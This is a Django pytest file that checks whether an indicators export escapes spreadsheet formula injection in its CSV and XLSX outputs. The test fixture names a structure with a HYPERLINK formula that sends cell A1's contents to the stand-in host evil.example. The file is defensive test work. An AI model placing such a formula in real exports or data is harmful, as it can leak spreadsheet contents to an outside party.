"""Exports that cannot execute: a structure named as a formula in the indicators' CSV and XLSX (review M1)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import UserFactory

from .test_views import make_coordinator

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


@pytest.fixture
def formula_named(data):
    data.a.name = HYPERLINK
    data.a.save()
    return make_coordinator(UserFactory(email="coord.t1@test.spro.example"), data.t1)


def test_the_csv_export_neutralises_a_formula(client, data, formula_named):
    client.force_login(formula_named)
    response = client.get(reverse("indicators:territory_export", args=[data.t1.code, "csv"]), {"periode": "2025"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]


def test_the_xlsx_export_has_no_formula_cell_and_numbers_stay_numbers(client, data, formula_named):
    client.force_login(formula_named)
    response = client.get(reverse("indicators:territory_export", args=[data.t1.code, "xlsx"]), {"periode": "2025"})
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "'" + HYPERLINK in [c.value for c in cells]
    assert any(isinstance(c.value, int) and c.data_type == "n" for c in cells)
